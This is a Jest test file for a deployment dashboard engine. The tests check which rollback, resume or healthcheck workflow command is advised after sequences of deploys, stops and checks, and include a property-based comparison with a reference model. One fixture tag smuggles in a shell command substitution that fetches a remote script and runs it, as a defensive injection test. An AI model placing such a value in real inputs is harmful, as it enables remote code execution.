import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import type { Health } from '../src/dashboard/blame.js'
import {
  SituationFactsSchema,
  applyRun,
  initialFacts,
  situate,
  type RunRecord,
  type SituationFacts,
  type SituationId
} from '../src/dashboard/situation.js'
import { decisionTable } from './helpers/decision-table.js'

const ALL = ['fastapi', 'flask', 'gradio'] as const
type Name = (typeof ALL)[number]
const START = Date.parse('2026-01-01T00:00:00.000Z')
const SHA = 'c'.repeat(40)
const HALT = { by: 'octocat', at: '2026-01-01T00:00:00.000Z', reason: 'harm' }

/** The time `minute` minutes after the start, and the tag a deploy then gets. */
const timeAt = (minute: number): string =>
  new Date(START + minute * 60_000).toISOString()
const tagAt = (minute: number): string =>
  `deployment-${timeAt(minute).slice(0, 19).replace(/[-:]/g, '').replace('T', '-')}`

const allHealthy = (): Record<Name, Health> => ({
  fastapi: 'healthy',
  flask: 'healthy',
  gradio: 'healthy'
})

const base = {
  outcome: { kind: 'succeeded' },
  ciFailed: false,
  deploy: null,
  check: null,
  rollback: null,
  stopped: false,
  halt: null
} as const

/** A short story of runs, as the engine would fold them. */
class Story {
  facts: SituationFacts = initialFacts([...ALL], timeAt(0))
  minute = 0

  run(record: Omit<RunRecord, 'at'>): this {
    this.minute += 10
    this.facts = applyRun(this.facts, { ...record, at: timeAt(this.minute) })
    return this
  }

  check(health: Partial<Record<Name, Health>> = {}, halt = this.facts.halt) {
    return this.run({
      ...base,
      action: 'healthcheck',
      check: { ...allHealthy(), ...health },
      halt
    })
  }

  deploy(
    health: Partial<Record<Name, Health>> = {},
    components: Name[] = [...ALL],
    rollback: RunRecord['rollback'] = null
  ): this {
    return this.run({
      ...base,
      action: components.length === ALL.length ? 'deploy' : 'update-component',
      deploy: { tag: tagAt(this.minute + 10), sha: SHA, components },
      check: { ...allHealthy(), ...health },
      rollback
    })
  }

  get tag(): string {
    return tagAt(this.minute)
  }

  get now() {
    return situate(this.facts)
  }
}

const gh = (args: string) =>
  `gh workflow run ai-agent-handoff-runbook.yml ${args}`

describe('what to do next', () => {
  test('a healthy system after a verified deploy is advised nothing, never a deploy', () => {
    const story = new Story().check().deploy()
    expect(story.now.overall).toBe('healthy')
    expect(story.now.next).toMatchObject({
      situation: 'healthy',
      command: null
    })
  })

  test('right after an automatic rollback the advice is to fix main, not to redeploy its head', () => {
    const story = new Story().check().deploy()
    const good = story.tag
    story.deploy({ fastapi: 'down' }, [...ALL], {
      automatic: true,
      tag: good,
      sha: SHA,
      components: ['fastapi'],
      commandsFailed: false,
      check: allHealthy()
    })
    expect(story.now.next.situation).toBe('rolled-back-automatically')
    expect(story.now.next.command).toBeNull()
    expect(story.now.next.why).toContain('do not redeploy')
  })

  test('halted and critical after a deploy, the advice is the rollback, not resume', () => {
    const story = new Story().check().deploy()
    const good = story.tag
    story.deploy({ flask: 'down' }).check({ flask: 'down' }, HALT)
    expect(story.now.next).toMatchObject({
      situation: 'halted-critical',
      command: gh(
        `-f action=rollback -f rollback_version=${good} -f target_component=flask -f reason="<why>"`
      )
    })
  })

  test('after an emergency stop the system is stopped, never healthy, and resume is advised', () => {
    const story = new Story()
      .check()
      .deploy()
      .run({ ...base, action: 'emergency-stop', stopped: true, halt: HALT })
    expect(story.now.overall).toBe('stopped')
    expect(story.now.next.situation).toBe('stopped')
    expect(story.now.next.command).toBe(
      gh('-f action=resume -f reason="<what was fixed>"')
    )
  })

  test('after resume the services are still stopped and a deploy is advised, also when a check finds them down', () => {
    const story = new Story()
      .check()
      .deploy()
      .run({ ...base, action: 'emergency-stop', stopped: true, halt: HALT })
      .run({ ...base, action: 'resume' })
    expect(story.now.next).toMatchObject({
      situation: 'resumed-still-stopped',
      command: gh('-f action=deploy')
    })
    story.check({ fastapi: 'down', flask: 'down', gradio: 'down' })
    expect(story.now.overall).toBe('stopped')
    expect(story.now.next.situation).toBe('resumed-still-stopped')
  })

  test('a deploy of every service after a stop starts them again', () => {
    const story = new Story()
      .check()
      .deploy()
      .run({ ...base, action: 'emergency-stop', stopped: true, halt: HALT })
      .run({ ...base, action: 'resume' })
      .deploy()
    expect(story.now.overall).toBe('healthy')
  })

  test('a rollback that failed in its commands and one that failed its verification are told apart', () => {
    const failed = (commandsFailed: boolean) => {
      const story = new Story().check().deploy()
      const good = story.tag
      return story.deploy({ fastapi: 'down' }, [...ALL], {
        automatic: true,
        tag: good,
        sha: SHA,
        components: ['fastapi'],
        commandsFailed,
        check: commandsFailed ? null : { ...allHealthy(), fastapi: 'down' }
      }).now.next
    }
    expect(failed(true)).toMatchObject({
      situation: 'critical-rollback-failed-commands',
      command: gh('-f action=emergency-stop -f reason="<why>"')
    })
    expect(failed(false)).toMatchObject({
      situation: 'critical-rollback-failed-verification',
      command: gh('-f action=healthcheck')
    })
    expect(failed(false).why).toContain('outside the deployment')
  })

  test('with flask down on its own, an update of fastapi that leaves it healthy is verified and the advice is to investigate flask', () => {
    const story = new Story()
      .check()
      .deploy()
      .check({ flask: 'down' })
      .deploy({ flask: 'down' }, ['fastapi'])
    expect(story.facts.deployments[0]?.verified).toBe(true)
    expect(story.facts.lastRun?.blame).toEqual({
      verdict: 'verified',
      broken: [],
      notOurs: ['flask']
    })
    expect(story.now.next).toMatchObject({
      situation: 'critical-not-deploy',
      command: gh('-f action=healthcheck')
    })
    expect(story.now.next.why).toContain('Investigate flask')
  })

  test('a deploy after a stop is blamed for a service it leaves down', () => {
    const story = new Story()
      .check()
      .deploy()
      .run({ ...base, action: 'emergency-stop', stopped: true, halt: HALT })
      .run({ ...base, action: 'resume' })
      .deploy({ gradio: 'down' })
    expect(story.facts.lastRun?.blame?.broken).toEqual(['gradio'])
    expect(story.now.next.situation).toBe('critical-after-deploy')
  })
})

describe('what runs', () => {
  test('an update-component moves only its component', () => {
    const story = new Story().check().deploy()
    const first = story.tag
    story.deploy({}, ['flask'])
    expect(story.now.components.flask?.tag).toBe(story.tag)
    expect(story.now.components.fastapi?.tag).toBe(first)
    expect(story.now.components.gradio?.tag).toBe(first)
  })

  test('a rollback of every service moves them all', () => {
    const story = new Story().check().deploy()
    const good = story.tag
    story.deploy({}, ['flask']).run({
      ...base,
      action: 'rollback',
      check: allHealthy(),
      rollback: {
        automatic: false,
        tag: good,
        sha: SHA,
        components: [...ALL],
        commandsFailed: false,
        check: allHealthy()
      }
    })
    for (const name of ALL) {
      expect(story.now.components[name]).toMatchObject({
        tag: good,
        kind: 'rollback',
        verified: true
      })
    }
  })

  test('a deploy whose commands failed (no tag) moves nothing', () => {
    const story = new Story().check().deploy()
    const first = story.tag
    story.run({
      ...base,
      action: 'deploy',
      outcome: { kind: 'failed', stage: 'deploy' },
      deploy: { tag: '', sha: SHA, components: [...ALL] }
    })
    expect(story.now.components.fastapi?.tag).toBe(first)
    expect(story.facts.deployments).toHaveLength(1)
  })

  test('a rollback that failed in its commands leaves what ran before, and says so', () => {
    const story = new Story().check().deploy()
    const good = story.tag
    story.deploy({ fastapi: 'down' }, [...ALL], {
      automatic: true,
      tag: good,
      sha: SHA,
      components: ['fastapi'],
      commandsFailed: true,
      check: null
    })
    expect(story.now.components.fastapi?.tag).toBe(story.tag)
    expect(story.now.components.fastapi?.note).toContain(
      'failed in its commands'
    )
  })

  test('a rollback target is older than what runs now, never the version running', () => {
    const story = new Story().check().deploy()
    const oldest = story.tag
    story.deploy()
    const middle = story.tag
    // The newest deploy is not verified: its check could not reach gradio.
    story.run({
      ...base,
      action: 'deploy',
      deploy: {
        tag: tagAt(story.minute + 10),
        sha: SHA,
        components: ['gradio']
      },
      check: { fastapi: 'healthy', flask: 'healthy' }
    })
    story.check({ gradio: 'down' })
    expect(story.now.next.command).toContain(`rollback_version=${middle}`)
    // Everything back: older than what runs on each, so before the middle one.
    expect(story.now.target).toBe(oldest)
  })

  test('a tag that is not a deployment tag never reaches a command', () => {
    const facts = SituationFactsSchema.parse({
      ...initialFacts(['api'], timeAt(0)),
      deployments: [
        {
          tag: 'deployment-2',
          sha: '',
          time: timeAt(2),
          kind: 'deploy',
          components: [],
          verified: false,
          failure: 'verification',
          blamed: ['api']
        },
        {
          tag: 'deployment-1$(curl -s x.sh|sh)',
          sha: '',
          time: timeAt(1),
          kind: 'deploy',
          components: [],
          verified: true,
          failure: null
        }
      ],
      services: { api: { status: 'down', since: null, reason: null } }
    })
    const next = situate(facts).next
    expect(next.situation).toBe('no-rollback-target')
    expect(`${next.command} ${next.why}`).not.toContain('$(')
  })

  test('a run with a value out of bounds is refused, naming the field', () => {
    expect(() =>
      applyRun(initialFacts(['api'], timeAt(0)), {
        ...base,
        action: 'deploy',
        at: timeAt(1),
        deploy: { tag: 'x', sha: 'not a sha', components: ['api'] }
      })
    ).toThrow(/sha/)
  })
})

// ---------------------------------------------------------------------------
// Random sequences of operations, applied to a small reference world and to
// the facts as the engine folds them.

type Op =
  | {
      kind: 'deploy'
      bad: boolean
      ci: boolean
      only: Name | null
      slow: Name[]
      rollback: 'commands' | 'env' | 'ok' | 'none'
    }
  | { kind: 'rollback'; result: 'commands' | 'env' | 'ok'; slow: Name[] }
  | { kind: 'stop' }
  | { kind: 'lock' }
  | { kind: 'resume' }
  | { kind: 'check'; slow: Name[] }
  | { kind: 'outage'; name: Name; down: boolean }

interface Entry {
  tag: string
  kind: 'deploy' | 'update-component' | 'rollback'
  components: Name[]
  verified: boolean | null
  blamed: Name[]
}

/** The world and what the reference expects of it. */
class Reference {
  minute = 0
  running: Record<Name, string | null> = {
    fastapi: null,
    flask: null,
    gradio: null
  }
  badTags = new Set<string>()
  own: Record<Name, boolean> = { fastapi: false, flask: false, gradio: false }
  stoppedNames = new Set<Name>()
  stopped = false
  halt = false
  observed: Record<Name, Health> = {
    fastapi: 'unknown',
    flask: 'unknown',
    gradio: 'unknown'
  }
  log: Entry[] = []
  /** Deployments a passing check verified, as `kind:tag`. */
  passed = new Set<string>()
  last: 'refused' | 'ci-failed' | 'auto-rolled-back' | 'other' = 'other'
  rollbackFailure: {
    kind: 'commands' | 'verification'
    components: Name[]
  } | null = null

  health(name: Name): Health {
    const tag = this.running[name]
    return this.stoppedNames.has(name) ||
      this.own[name] ||
      (tag !== null && this.badTags.has(tag))
      ? 'down'
      : 'healthy'
  }

  probe(slow: Name[]): Record<Name, Health> {
    const seen = {} as Record<Name, Health>
    for (const n of ALL) {
      const h = this.health(n)
      seen[n] = h === 'healthy' && slow.includes(n) ? 'degraded' : h
    }
    this.observed = seen
    return seen
  }

  /** Newest verified entry covering `names`, older than what runs on each. */
  target(names: Name[]): string | null {
    const found = this.log.find(
      (e) =>
        e.verified === true &&
        names.every(
          (n) =>
            e.components.includes(n) &&
            (this.running[n] === null || e.tag < (this.running[n] as string))
        )
    )
    return found?.tag ?? null
  }

  /** The situation, from the reference's own record. */
  expected(): SituationId {
    const down = ALL.filter((n) => this.observed[n] === 'down')
    if (this.stopped) {
      if (this.halt) return 'stopped'
      const head = this.log.find((e) => e.kind !== 'rollback')
      if (head?.verified !== false) return 'resumed-still-stopped'
      const anyVerified = this.log.some(
        (e) => e.verified === true && ALL.every((n) => e.components.includes(n))
      )
      return anyVerified ? 'resumed-head-broken' : 'no-rollback-target'
    }
    if (down.length > 0) {
      const failure = this.rollbackFailure
      if (failure?.kind === 'commands')
        return this.halt
          ? 'halted-rollback-failed'
          : 'critical-rollback-failed-commands'
      if (
        failure?.kind === 'verification' &&
        failure.components.some((n) => down.includes(n))
      )
        return 'critical-rollback-failed-verification'
      for (const e of this.log) {
        if (e.kind === 'rollback' || e.verified === true) continue
        const broken = e.blamed.filter(
          (n) =>
            down.includes(n) &&
            this.running[n] === e.tag &&
            this.liveKind(n) === e.kind
        )
        if (broken.length === 0) continue
        const names =
          broken.length === 1
            ? broken
            : ALL.filter((n) => this.running[n] === e.tag)
        if (!this.target(names)) return 'no-rollback-target'
        return this.halt ? 'halted-critical' : 'critical-after-deploy'
      }
      return 'critical-not-deploy'
    }
    if (ALL.some((n) => this.observed[n] === 'unknown')) return 'unknown'
    if (this.halt) return 'halted-healthy'
    if (this.last === 'refused') return 'run-refused'
    if (this.last === 'ci-failed') return 'ci-failed'
    if (this.last === 'auto-rolled-back') return 'rolled-back-automatically'
    if (ALL.some((n) => this.observed[n] === 'degraded')) return 'degraded'
    return 'healthy'
  }

  /** What kind of deployment put the running version on `name`. */
  kinds: Record<Name, Entry['kind'] | null> = {
    fastapi: null,
    flask: null,
    gradio: null
  }
  liveKind(name: Name): Entry['kind'] | null {
    return this.kinds[name]
  }

  move(names: Name[], tag: string, kind: Entry['kind']): void {
    for (const n of names) {
      this.running[n] = tag
      this.kinds[n] = kind
      this.stoppedNames.delete(n)
    }
    if (ALL.every((n) => names.includes(n))) this.stopped = false
  }

  record(entry: Entry): void {
    this.log.unshift(entry)
    this.rollbackFailure = null
    if (entry.verified === true) this.passed.add(`${entry.kind}:${entry.tag}`)
  }
}

/** Mostly none slow, so that healthy states come up often enough. */
const names = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Name[]>([]) },
  { weight: 1, arbitrary: fc.subarray([...ALL]) }
)
/** How a rollback goes: 'none' is an automatic one that never ran (cancelled, or waiting for a reviewer). */
const rollbackMode = fc.constantFrom<'commands' | 'env' | 'ok'>(
  'commands',
  'env',
  'ok',
  'ok'
)
const opArb: fc.Arbitrary<Op> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('deploy' as const),
      bad: fc.constantFrom(false, false, true),
      ci: fc.constantFrom(false, false, false, true),
      only: fc.option(fc.constantFrom(...ALL), { nil: null }),
      slow: names,
      rollback: fc.oneof(rollbackMode, fc.constant('none' as const))
    })
  },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('rollback' as const),
      result: rollbackMode,
      slow: names
    })
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'stop' as const }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'lock' as const }) },
  { weight: 2, arbitrary: fc.constant({ kind: 'resume' as const }) },
  {
    weight: 3,
    arbitrary: fc.record({ kind: fc.constant('check' as const), slow: names })
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('outage' as const),
      name: fc.constantFrom(...ALL),
      down: fc.boolean()
    })
  }
)

function apply(ref: Reference, facts: SituationFacts, op: Op): SituationFacts {
  if (op.kind === 'outage') {
    ref.own[op.name] = op.down
    return facts
  }
  if (op.kind === 'lock') {
    // The lock taken by hand: no run, no stop commands; the facts read the
    // halt from the tag itself.
    ref.halt = true
    return { ...facts, halt: HALT }
  }
  ref.minute += 10
  const at = timeAt(ref.minute)
  const halt = (): RunRecord['halt'] => (ref.halt ? HALT : null)
  const fold = (record: Omit<RunRecord, 'at'>) =>
    applyRun(facts, { ...record, at })
  if (op.kind === 'check') {
    ref.last = 'other'
    return fold({
      ...base,
      action: 'healthcheck',
      check: ref.probe(op.slow),
      halt: halt()
    })
  }
  if (op.kind === 'stop') {
    ref.last = 'other'
    if (ref.halt)
      return fold({ ...base, action: 'emergency-stop', halt: halt() })
    ref.halt = true
    ref.stopped = true
    for (const n of ALL) ref.stoppedNames.add(n)
    return fold({
      ...base,
      action: 'emergency-stop',
      stopped: true,
      halt: HALT
    })
  }
  if (op.kind === 'resume') {
    ref.last = 'other'
    ref.halt = false
    return fold({ ...base, action: 'resume' })
  }
  const rollBack = (
    automatic: boolean,
    target: string,
    components: Name[],
    mode: 'commands' | 'env' | 'ok',
    slow: Name[]
  ): NonNullable<RunRecord['rollback']> => {
    if (mode === 'commands') {
      ref.record({
        tag: target,
        kind: 'rollback',
        components,
        verified: false,
        blamed: []
      })
      ref.rollbackFailure = { kind: 'commands', components }
      return {
        automatic,
        tag: target,
        sha: SHA,
        components,
        commandsFailed: true,
        check: null
      }
    }
    if (mode === 'env') for (const n of components) ref.own[n] = true
    ref.move(components, target, 'rollback')
    const check = ref.probe(slow)
    const ok = components.every((n) => check[n] !== 'down')
    ref.record({
      tag: target,
      kind: 'rollback',
      components,
      verified: ok,
      blamed: []
    })
    if (!ok) ref.rollbackFailure = { kind: 'verification', components }
    if (ok && automatic) ref.last = 'auto-rolled-back'
    return {
      automatic,
      tag: target,
      sha: SHA,
      components,
      commandsFailed: false,
      check
    }
  }
  if (op.kind === 'rollback') {
    ref.last = 'other'
    const target = ref.target(ALL.filter((n) => ref.running[n] !== null))
    if (!target || ALL.every((n) => ref.running[n] === null)) {
      ref.last = 'refused'
      return fold({
        ...base,
        action: 'rollback',
        outcome: { kind: 'refused', reason: 'no earlier verified deployment' },
        halt: halt()
      })
    }
    const rollback = rollBack(false, target, [...ALL], op.result, op.slow)
    return fold({ ...base, action: 'rollback', rollback, halt: halt() })
  }
  // deploy or update-component
  const action = op.only ? 'update-component' : 'deploy'
  if (ref.halt) {
    ref.last = 'refused'
    return fold({
      ...base,
      action,
      outcome: { kind: 'refused', reason: 'an emergency stop is in effect' },
      halt: halt()
    })
  }
  if (op.ci) {
    ref.last = 'ci-failed'
    return fold({
      ...base,
      action,
      outcome: { kind: 'failed', stage: 'ci' },
      ciFailed: true
    })
  }
  ref.last = 'other'
  const tag = tagAt(ref.minute)
  const components: Name[] = op.only ? [op.only] : [...ALL]
  const before = { ...ref.observed }
  if (ref.stopped) for (const n of ALL) before[n] = 'unknown'
  if (op.bad) ref.badTags.add(tag)
  ref.move(components, tag, action)
  const check = ref.probe(op.slow)
  const broken = components.filter(
    (n) => check[n] === 'down' && before[n] !== 'down'
  )
  const answers = components.every((n) => check[n] !== 'down')
  ref.record({
    tag,
    kind: action,
    components,
    verified: broken.length > 0 ? false : answers ? true : null,
    blamed: broken
  })
  const target = broken.length > 0 ? ref.target(broken) : null
  const rollback =
    target && op.rollback !== 'none'
      ? rollBack(true, target, broken, op.rollback, op.slow)
      : null
  return fold({
    ...base,
    action,
    deploy: { tag, sha: SHA, components },
    check,
    rollback,
    outcome:
      target && op.rollback === 'none'
        ? { kind: 'cancelled' }
        : rollback && ref.rollbackFailure
          ? { kind: 'failed', stage: 'rollback' }
          : { kind: 'succeeded' }
  })
}

const TABLE = new Map(decisionTable().map((r) => [r.situation, r]))

interface Real {
  facts: SituationFacts
}

/** One operation, applied to the reference world and to the folded facts. */
class Operation implements fc.Command<Reference, Real> {
  constructor(readonly op: Op) {}

  check(): boolean {
    return true
  }

  run(ref: Reference, real: Real): void {
    real.facts = apply(ref, real.facts, this.op)
    const now = situate(real.facts)
    for (const n of ALL)
      expect(now.components[n]?.tag ?? null).toBe(ref.running[n])
    for (const d of real.facts.deployments)
      if (d.verified === true)
        expect(ref.passed.has(`${d.kind}:${d.tag}`)).toBe(true)
    const expected = ref.expected()
    expect(now.next.situation).toBe(expected)
    const row = TABLE.get(expected)
    if (row?.pattern) expect(now.next.command).toMatch(row.pattern)
    else expect(now.next.command).toBeNull()
    if (now.overall === 'healthy')
      expect(now.next.command ?? '').not.toContain('action=deploy')
    if (ref.stopped) expect(now.overall).toBe('stopped')
  }

  toString(): string {
    return JSON.stringify(this.op)
  }
}

describe('random sequences of operations', () => {
  test('the model agrees with a reference world on what runs, what is verified and what to do', () => {
    fc.assert(
      fc.property(
        fc.commands(
          [opArb.map((op): fc.Command<Reference, Real> => new Operation(op))],
          { maxCommands: 30 }
        ),
        (commands) =>
          fc.modelRun(
            () => ({
              model: new Reference(),
              real: { facts: initialFacts([...ALL], timeAt(0)) }
            }),
            commands
          )
      ),
      { numRuns: 300 }
    )
  })
})
